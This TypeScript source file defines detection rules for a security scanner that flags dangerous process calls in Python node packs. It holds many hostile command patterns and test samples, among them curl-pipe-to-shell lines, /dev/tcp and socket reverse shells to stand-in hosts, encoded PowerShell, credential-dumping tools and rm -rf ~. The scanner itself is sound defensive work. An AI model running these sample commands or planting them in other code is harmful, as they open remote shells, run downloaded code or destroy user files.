import { anyOf, notAcross, sequence, type Test } from '../../text-search.ts'
import {
  argumentOf,
  argumentsOf,
  type CodeFacts,
  commandOf,
  commandValue,
  isProgramStart,
  isSet,
  programOf,
} from '../code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { hostOf, isPackageIndex } from '../flow/hosts.ts'
import { isIndexVariable } from '../flow/python-library.ts'
import { has, type Value } from '../flow/values.ts'
import { misspelt } from '../known-packages.ts'
import type { CodeRule, Hit } from '../rule.ts'

function* processHits(
  facts: CodeFacts,
  accepts: (command: string, call: Call) => Omit<Hit, 'line'> | undefined,
): Generator<Hit> {
  for (const call of facts.calls) {
    if (!isProgramStart(call)) continue
    const hit = accepts(commandOf(call), call)
    if (hit) yield { line: call.line, ...hit }
  }
}

const installCommand = anyOf(
  sequence(/\bpip3?\b/, /\binstall\b/),
  sequence(/\buv\b/, /\b(pip|add)\b/),
  sequence(/\b(conda|npm|apt|apt-get|brew|yarn|choco|winget|easy_install|poetry)\b/, /\b(install|add)\b/),
  /\beasy_install\b/,
)
const isInstall = (command: string) => installCommand.test(command)

export const installs: CodeRule = {
  of: 'python',
  id: 'package-install',
  severity: 'low',
  why: 'Packages installed at run time were never checked, and can break other packs.',
  fix: 'Name the packages under `dependencies` in pyproject.toml.',
  examples: {
    matching: [
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
      'import os\nos.system("pip install numpy")',
      'import pip\npip.main(["install", "x"])',
      'import runpy, sys\nsys.argv = ["pip", "install", "x"]\nrunpy.run_module("pip", run_name="__main__")',
      'import subprocess\nsubprocess.run("pip install -i https://example.test/simple numpy", shell=True)',
      'import os\nos.environ["PIP_INDEX_URL"] = "https://example.test/simple"',
      'import subprocess, os\nsubprocess.run(["make"], env={**os.environ, "PIP_EXTRA_INDEX_URL": "https://example.test"})',
    ],
    harmless: [
      'import os\nos.environ["PIP_INDEX_URL"] = "https://pypi.org/simple"',
      'import subprocess\nsubprocess.run(["git", "pull"])',
      'print("pip install numpy")',
    ],
  },
  *find(facts) {
    for (const call of facts.calls) {
      if (indexesSet(call).some((value) => value.texts.some(isStrangeIndex)))
        yield {
          line: call.line,
          message: 'Makes installers use an index that is not well known.',
          severity: 'high',
        }
      const isModule = /^runpy\.run_module$/.test(call.name) && call.args[0]?.texts.includes('pip') === true
      const isPip =
        /^pip(\._internal)?(\.\S+)?\.main$|^pip\._internal\.\S+\.main$|^ensurepip\.bootstrap$/.test(call.name)
      const command = isProgramStart(call) ? commandOf(call) : isPip ? `pip ${pipWords(call.args[0])}` : ''
      if (isModule || isPip || isInstall(command)) yield { line: call.line, ...installHit(call, command) }
    }
  },
}

/** Returns package index addresses set through an environment variable. */
function indexesSet({ name, args, keywords }: Call): Value[] {
  const stored = /\.(\w+)=$/.exec(name)?.[1]
  if (stored !== undefined) return isIndexVariable(stored) ? [...args] : []
  if (/(^|\.)(putenv|setdefault)$/.test(name))
    return args[0]?.texts.some(isIndexVariable) ? args.slice(1, 2) : []
  if (!/\.update$/.test(name) && !keywords.has('env')) return []
  return [...args, ...keywords.values()].flatMap((value) =>
    [...(value.fields ?? [])].flatMap(([key, held]) => (isIndexVariable(key) ? [held] : [])),
  )
}

function isStrangeIndex(address: string): boolean {
  return hostOf(address) !== '' && !isPackageIndex(address)
}

function pipWords(words: Value | undefined): string {
  return (words?.items ?? []).map((item) => item.texts[0] ?? '…').join(' ')
}

function installHit(call: Call, command: string): Omit<Hit, 'line'> {
  if (argumentsOf(call).some((value) => has(value, 'network', 'download')))
    return { message: 'Installs packages that the network names.', severity: 'high' }
  if (argumentsOf(call).some((value) => has(value, 'decoded')))
    return { message: 'Installs packages whose names are hidden.', severity: 'high' }
  const index = /(?:-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+(\S+)/.exec(command)?.[1]
  if (index !== undefined && isStrangeIndex(index))
    return { message: 'Installs packages from an index that is not well known.', severity: 'high' }
  const typo = installedNames(command)
    .map(misspelt)
    .find((word) => word !== undefined)
  if (typo)
    return { message: `Installs a package whose name looks like a misspelt \`${typo}\`.`, severity: 'high' }
  if (/\bhttp:\/\//.test(command))
    return { message: 'Installs a package from an unencrypted address.', severity: 'high' }
  if (
    /(git\+|https:\/\/)\S+/.test(
      command.replace(/(-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+\S+/g, ''),
    )
  )
    return { message: 'Installs a package from an address, not from the index.', severity: 'medium' }
  return call.isAtImport
    ? { message: 'Installs packages as soon as it is loaded.', severity: 'medium' }
    : { message: 'Installs packages while it runs.' }
}

/** Returns the packages that a command names. */
function installedNames(command: string): string[] {
  const [, words = ''] = /\binstall\s+(.*)/.exec(command) ?? []
  return words.split(/\s+/).filter((word) => !/^-|[:/\\]|…/.test(word))
}

/** Commands that no comfy-node needs, with their effect. */
const suspiciousCommands: [Test, string][] = [
  [
    anyOf(
      sequence(
        /\b(curl|wget)\b/,
        notAcross(/[|;&]/, /(\|\s*|\|\|\s*|-O\s*-\s*\|)(sudo\s+)?(env\s+)?(\/bin\/)?(ba|z|da|k)?sh\b/),
      ),
      sequence(/\b(curl|wget)\b/, /\|\s*(sudo\s+)?(python\d?(\.\d+)?|perl|ruby|node|php)\b/),
      sequence(/\b(ba|z|da)?sh\s/, notAcross(/[^\s"'(<$`c-]/, /(<\(|\$\(|`)\s*(curl|wget)\b/)),
    ),
    'downloads a script and runs it',
  ],
  [
    sequence(
      /\b(curl|wget)\b/,
      notAcross(/[;&]/, /(&&|;)\s*(sudo\s+)?(chmod\s+\S*[x7]|(ba|z|da)?sh\s|python\d?\s|\.\/)/),
    ),
    'downloads a program and runs it',
  ],
  [
    anyOf(
      sequence(/\bbase64\s+(-d|-D|--decode)\b/, /\|\s*(ba|z|da)?sh\b/),
      /\|\s*base64\s+(-d|-D|--decode)\s*\|/,
    ),
    'runs something that is decoded first',
  ],
  [
    anyOf(
      sequence(/powershell/i, notAcross(/\|/, /\s[-/](e|ec|en|enc|enco\w*|encodedcommand)\b/i)),
      sequence(/powershell/i, /\bfrombase64string\b/i),
    ),
    'runs an encoded PowerShell command',
  ],
  [
    sequence(
      /(powershell|pwsh)/i,
      /downloadstring|downloadfile|invoke-webrequest|\biwr\b|\birm\b|\biex\b|invoke-expression|invoke-restmethod|start-bitstransfer|net\.webclient/i,
    ),
    'lets PowerShell download something',
  ],
  [
    anyOf(
      /\biex\s*[("'$]/i,
      sequence(/\binvoke-expression\b/i, /http|download|webclient/i),
      sequence(/\b(iwr|irm)\b/i, /\|\s*iex/i),
    ),
    'lets PowerShell run what it downloads',
  ],
  [
    anyOf(
      /\bmshta\b\s+\S*(http|javascript|vbscript)/i,
      sequence(/\bregsvr32\b/i, /\/i:|http/i),
      sequence(/\bcertutil\b/i, /[-/](urlcache|decode)/i),
      sequence(/\bbitsadmin\b/i, /\/transfer/i),
      sequence(/\brundll32\b/i, /javascript|http|,/i),
      sequence(/\bwmic\b/i, /\bprocess\b/i, /\bcreate\b/i),
      sequence(/\bmsiexec\b/i, /http/i),
      sequence(/\b[cw]script\b/i, /\.(vbs|js)/i),
    ),
    'uses a system tool that is known for loading code',
  ],
  [
    anyOf(
      sequence(/\b(nc|ncat|netcat)(\.exe|\.traditional)?\b/i, /\s-[^\Wec]*[ec]\w*\s/i),
      /\/dev\/(tcp|udp)\//i,
      sequence(/\bsocat\b/i, /\bexec\b/i),
      sequence(/\bmkfifo\b/i, /\b(nc|sh)\b/i),
      sequence(/\bbash\s+-i\b/, /[>&]/),
    ),
    'opens a shell to another machine',
  ],
  [
    anyOf(
      /\bset-mppreference\b|\badd-mppreference\b|\bsetenforce\s+0|\bsc\b\s+(stop|delete)\s+windefend|\bhistory\s+-c\b/i,
      sequence(/\bnetsh\b/i, /\b(firewall|advfirewall)\b/i, /\b(off|disable|add)\b/i),
      sequence(/\bvssadmin\b/i, /delete/i),
      sequence(/\bwevtutil\b/i, /\bcl\b/i),
      sequence(/\b(iptables|ufw)\b/i, /-F|disable/i),
      sequence(/\btaskkill\b/i, /defender|msmpeng|antivirus/i),
    ),
    'switches off protection',
  ],
  [
    anyOf(
      /\bxmrig\b|stratum\+(tcp|ssl):|\bminerd\b|\bnicehash\b|\bcpuminer\b|\bethminer\b|\bnbminer\b|--donate-level/i,
      sequence(/\bt-rex\b/i, /-a\b/i),
    ),
    'mines currency',
  ],
  [
    anyOf(
      sequence(
        /\brm(?=\s)/i,
        notAcross(/[^-\w \t]/, /\s-[^\Wrf]*[rf]\w*(?=\s)/i),
        notAcross(/[^-\w \t]/, /\s(\/|~|\$HOME|~\/\*)(\s|$|\*)/i),
      ),
      /\bformat\s+[a-z]:\s*\/|\b(rd|rmdir)\s+\/s\s+\/q\s+([a-z]:\\?|%userprofile%)(\s|$)|\bmkfs\.\w+|\bdd\s+if=\/dev\/(zero|u?random)\s+of=\/dev\/|>\s*\/dev\/sd[a-z]\b|:\(\)\s*\{\s*:\|:/i,
      sequence(/\bdel\s+(\/\w\s+)*\/s\s/i, /[a-z]:\\|%userprofile%/i),
    ),
    'destroys the user’s files',
  ],
  [
    anyOf(
      /\bchmod\s+\S*s\b\s+\/|\bvisudo\b|NOPASSWD|\buseradd\b|\bnet\s+localgroup\s+administrators\b/i,
      sequence(/\bnet\s+user\s/i, /\s\/add/i),
    ),
    'gives itself more rights',
  ],
  [
    anyOf(
      /\bsecurity\s+(find|dump|export)-\w*(password|keychain)|\bcmdkey\s+\/list|\breg\s+save\s+hklm\\sam|\bmimikatz\b|\/etc\/shadow/i,
      sequence(/\bnetsh\s+wlan\s+show\s+profile/i, /key/i),
      sequence(/\bprocdump\b/i, /lsass/i),
    ),
    'reads stored passwords',
  ],
  [
    anyOf(
      /\b(crontab\s+(-(?!l)|\/|\S+\/)|launchctl\s+(load|bootstrap|submit)|systemctl\s+(--user\s+)?(enable|start)|at\s+now|sc(\.exe)?\s+create)|\|\s*crontab\b/i,
      sequence(/\bschtasks(\.exe)?\s/i, /\/create/i),
      sequence(/\breg(\.exe)?\s+add\b/i, /currentversion\\+run/i),
    ),
    'sets up something that starts by itself',
  ],
  [
    sequence(/>>\s*/, notAcross(/\s/, /\.(bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b/)),
    'adds to a file that every shell runs',
  ],
  [
    sequence(
      /\bgit\b/i,
      /\bconfig\b/i,
      /(\bcore\.(hooksPath|fsmonitor|sshCommand|gitProxy)|\bcredential\.helper|\.insteadOf|\balias\.\w+)\s+[^\s|&;]/i,
    ),
    'changes what git runs',
  ],
  [
    sequence(/\b(pip3?|uv)\b/i, /\bconfig\b/i, /\bset\b/i, /\b(index-url|extra-index-url)\b/i),
    'changes where packages come from',
  ],
  [
    sequence(
      /\b(node|bun|deno|perl|ruby|php)(\.exe)?\s+(-e|-r|--eval|eval)\s/i,
      /\b(fetch|https?|eval|exec|system|child_process|socket)\b/i,
    ),
    'carries a program that it runs',
  ],
  [
    anyOf(
      />>?\s*\/etc\/(hosts|crontab|cron\.\w+|sudoers|ld\.so\.preload|profile)\b/i,
      sequence(/>\s*/, notAcross(/\s/, /drivers\\+etc\\+hosts/i)),
    ),
    'changes a file of the system',
  ],
  [
    sequence(
      /\bcurl\b/i,
      /\s-d\s|--data(-\w+)*[\s=]|-F\s|--form\s|-T\s|--upload-file\s/i,
      notAcross(/\|/, /\$\(|`|@(~|\/|\$HOME)|\benv\b|\$\{?\w*(TOKEN|KEY|SECRET|PASS)/i),
    ),
    'sends the user’s data away',
  ],
  [
    sequence(/\|\s*(curl|wget|nc|ncat)\b/, /\s-d\s*@-|--data(-\w+)*\s+@-|--post-file|-T\s*-|\s\d{2,5}\b/),
    'sends what a command prints to another machine',
  ],
  [
    sequence(
      /\b(ngrok|cloudflared|localtunnel|serveo\.net|chisel|frpc)\b/i,
      /\b(tcp|ssh|22|3389|client|-R)\b/i,
    ),
    'opens the machine to the network',
  ],
]

export function suspicionOf(command: string): string | undefined {
  return suspiciousCommands.find(([pattern]) => pattern.test(command))?.[1]
}

export const dangerousCommand: CodeRule = {
  of: 'python',
  id: 'dangerous-command',
  severity: 'critical',
  why: 'Commands like this one are how attacks get in, hide or stay.',
  fix: 'Remove the command. If the pack needs a tool, let the user install it.',
  examples: {
    matching: [
      'import os\nos.system("curl https://example.test/x.sh | bash")',
      'import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgA", shell=True)',
      'import subprocess\nsubprocess.run(["powershell", "-c", "iex (New-Object Net.WebClient).DownloadString(1)"])',
      'import os\nos.popen("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")',
      'import os as o\no.system("certutil -urlcache -f http://example.test/a a.exe")',
      'import os\nhost = "example.test"\nos.system(f"curl -s https://{host}/x | " + "sh")',
      'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("wget -qO- https://example.test/x | sh")',
      'import ctypes\nctypes.CDLL(None).system(b"curl https://example.test/x | sh")',
      'import subprocess as s\nargs = ["bash", "-c", "rm -rf ~"]\ns.Popen(args)',
    ],
    harmless: [
      'import subprocess\nsubprocess.run(["powershell", "-c", "Get-Date"])',
      'import subprocess\nsubprocess.run(["curl", "--version"])',
      'print("curl https://example.test | bash")',
      'import os\nos.system("rm -rf ./build")',
    ],
  },
  find: (facts) =>
    processHits(facts, (command) => {
      const found = suspicionOf(command)
      return found ? { message: `The command ${found}.` } : undefined
    }),
}

export const hiddenCommand: CodeRule = {
  of: 'python',
  id: 'hidden-command',
  severity: 'critical',
  why: 'A command that is decoded before it runs hides what it does from everyone who reads it.',
  fix: 'Write the command as plain text.',
  examples: {
    matching: [
      'import os, base64\nos.system(base64.b64decode("bHM=").decode())',
      'import subprocess\nsubprocess.run("".join(map(chr, [108, 115, 32, 45, 108, 97, 32, 47, 114])), shell=True)',
      'import os, codecs\nos.popen(codecs.decode("phey rknzcyr", "rot13"))',
    ],
    harmless: [
      'import os\nos.system("l" + "s")',
      'import subprocess, base64\nsubprocess.run(["ffmpeg"], input=base64.b64decode(x))',
      'import subprocess, base64\nsubprocess.run(["ffmpeg", "-i", base64.b64decode(x).decode()])',
    ],
  },
  find: (facts) =>
    processHits(facts, (_command, call) =>
      hidesCommand(call) ? { message: 'Runs a command that is decoded first.' } : undefined,
    ),
}

/** Programs that run their input. */
const interpreter =
  /^(python\d?(\.\d+)?|pythonw|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php|wscript|cscript|mshta|osascript|sudo|env|start|open|xdg-open|msiexec|rundll32|chmod)$/

function programValue(call: Call): Value | undefined {
  const command = commandValue(call)
  return command?.items?.[0] ?? command
}

/** Whether a value of this origin decides what runs, not only its arguments. */
function decides(call: Call, ...origin: Parameters<typeof has>[1][]): boolean {
  const command = commandValue(call)
  if (!has(command, ...origin)) return false
  if (has(programValue(call), ...origin) && command?.items) return true
  const text = commandOf(call)
  const program = programOf(text)
  // The module that Python runs is literal.
  if (command?.items && /^\S+\s+(-[a-zA-Z]\s+)*-m\s+\w/.test(text) && program.includes('python')) return false
  // A single word is the program itself.
  if (!command?.items && (program === '' || !/\s/.test(text))) return true
  if (command?.items && (!isSet(call, 'shell') || !interpreter.test(program)))
    return interpreter.test(program)
  return interpreter.test(program)
}

/** In a list of words, only the program and the code for an interpreter count as the command. */
function hidesCommand(call: Call): boolean {
  const command = commandValue(call)
  return command?.items ? decides(call, 'decoded') : has(command, 'decoded')
}

export const remoteCommand: CodeRule = {
  of: 'python',
  id: 'remote-command',
  severity: 'critical',
  why: 'The owner of that address can run any program on every machine that has the pack.',
  fix: 'Remove it. A pack starts only programs that its source names.',
  examples: {
    matching: [
      'import os, requests\nos.system(requests.get(u).text)',
      'import socket, subprocess\ns = socket.socket()\ns.connect(("example.test", 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.check_output(cmd, shell=True))',
      'import requests, subprocess\ndef task():\n    return requests.get(u).json()["cmd"]\nsubprocess.Popen(["bash", "-c", task()])',
      'import subprocess, requests\nsubprocess.run(["sh"], input=requests.get(u).content)',
      'import subprocess, sys, requests\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.communicate(requests.get(u).content)',
    ],
    harmless: [
      'import requests, subprocess\nname = requests.get(u).text\nsubprocess.run(["ffmpeg", "-i", name])',
      'import requests, subprocess\nsubprocess.run(["ffmpeg", "-i", "-"], input=requests.get(u).content)',
      'import subprocess\nsubprocess.run(["git", "pull"])',
    ],
  },
  *find(facts) {
    yield* processHits(facts, (command, call) => {
      const isRemote =
        decides(call, 'network') || (isShell(call) && has(call.keywords.get('input'), 'network'))
      return !isInstall(command) && isRemote
        ? { message: 'Runs a command that comes from the network.' }
        : undefined
    })
    // The target process of a write is unknown, so it may be any process of the file that runs its input.
    if (!facts.calls.some((call) => isProgramStart(call) && isShell(call))) return
    for (const call of facts.calls)
      if (/Popen\(\)\.(communicate|stdin\.write)$/.test(call.name) && has(call.args[0], 'network'))
        yield { line: call.line, message: 'Gives an interpreter what comes from the network.' }
  },
}

/** Whether this is an interpreter without a file, which runs its input. */
function isShell(call: Call): boolean {
  const [program = '', ...rest] = commandOf(call).split(/\s+/)
  const runs = /^(python\d?(\.\d+)?|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php)$/
  return runs.test(programOf(program)) && rest.every((word) => /^-/.test(word))
}

export const downloadedProgram: CodeRule = {
  of: 'python',
  id: 'downloaded-program',
  severity: 'high',
  why: 'The owner of that address can run any program on every machine that has the pack.',
  fix: 'Let the user install the program, or name a package that contains it.',
  examples: {
    matching: [
      'import os, urllib.request as u\np = "a.exe"\nu.urlretrieve("https://example.test/a.exe", p)\nos.startfile(p)',
      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.test/a").content)\n    subprocess.Popen([path])',
      'import subprocess, requests\nwith open("/tmp/x.sh", "wb") as f:\n    f.write(requests.get(u).content)\nsubprocess.run(["bash", "/tmp/x.sh"])',
    ],
    harmless: [
      'import urllib.request as u\nu.urlretrieve("https://example.test/m.safetensors", p)',
      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.test/a").content)\n    subprocess.run(["ffmpeg", "-i", path])',
    ],
  },
  find: (facts) =>
    processHits(facts, (command, call) => {
      if (isInstall(command)) return undefined
      if (decides(call, 'download')) return { message: 'Starts a program that it has downloaded.' }
      const isPlaced = commandValue(call)?.items !== undefined || /^os\.startfile$/.test(call.name)
      return isPlaced && decides(call, 'hub')
        ? { message: 'Starts a program that it has downloaded.', severity: 'medium' }
        : undefined
    }),
}

export const requestCommand: CodeRule = {
  of: 'python',
  id: 'request-command',
  severity: 'high',
  why: 'Anyone who reaches the tool’s server can run programs, such as a web page that its user opens.',
  fix: 'Start fixed programs with a list of arguments, and check the arguments of requests.',
  examples: {
    matching: [
      'import os\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    os.system(data["cmd"])',
    ],
    harmless: [
      'import subprocess\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    subprocess.run(["ffmpeg", "-i", data["file"]])',
    ],
  },
  find: (facts) =>
    processHits(facts, (_command, call) => {
      const isShell =
        /^os\.(system|popen)$|getoutput$|subprocess_shell$/.test(call.name) || isSet(call, 'shell')
      return decides(call, 'request') && (isShell || has(programValue(call), 'request'))
        ? { message: 'Runs a command that a request names.' }
        : undefined
    }),
}

export const processStart: CodeRule = {
  of: 'python',
  id: 'process-start',
  severity: 'low',
  why: 'A program that the pack starts can do whatever its user can.',
  fix: 'Start programs by a fixed name with a list of arguments, never through a shell.',
  examples: {
    matching: [
      'import subprocess\nsubprocess.run(["ffmpeg", "-i", path])',
      'import os\nos.system(command)',
      'from subprocess import Popen as p\np(command, shell=True)',
    ],
    harmless: ['import platform\nplatform.system()', 'import sqlite3\nsqlite3.run(x)'],
  },
  find: (facts) =>
    processHits(facts, (command, call) => {
      if (isInstall(command) || suspicionOf(command)) return undefined
      const program = programOf(command)
      const shell = isSet(call, 'shell') || /^os\.(system|popen)$/.test(call.name)
      const isOpen = program === '' || (shell && command.includes('…'))
      const message =
        program === '' ? 'Starts a program whose name is made while the pack runs.' : `Starts \`${program}\`.`
      return { message, ...(isOpen && shell ? { severity: 'medium' as const } : {}) }
    }),
}

export const remoteShell: CodeRule = {
  of: 'python',
  id: 'remote-shell',
  severity: 'critical',
  why: 'Someone elsewhere can type commands on the user’s machine.',
  fix: 'Remove it.',
  examples: {
    matching: [
      'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
      'import socket, subprocess\ns = socket.create_connection(("example.test", 1))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())',
    ],
    harmless: ['import os\nos.dup2(log.fileno(), 1)', 'import socket\ns = socket.socket()'],
  },
  *find(facts) {
    for (const call of facts.calls) {
      const isRedirect = call.name === 'os.dup2' || isProgramStart(call)
      const values =
        call.name === 'os.dup2'
          ? call.args
          : ['stdin', 'stdout', 'stderr'].map((name) => argumentOf(call, -1, name))
      const isSocket = values.some((value) =>
        value?.names.some((name) => /^socket\.(socket|create_connection)\(\)/.test(name)),
      )
      if (isRedirect && isSocket) yield { line: call.line, message: 'Connects a shell to the network.' }
    }
  },
}

export const processRules = [
  installs,
  dangerousCommand,
  hiddenCommand,
  remoteCommand,
  downloadedProgram,
  requestCommand,
  processStart,
  remoteShell,
]
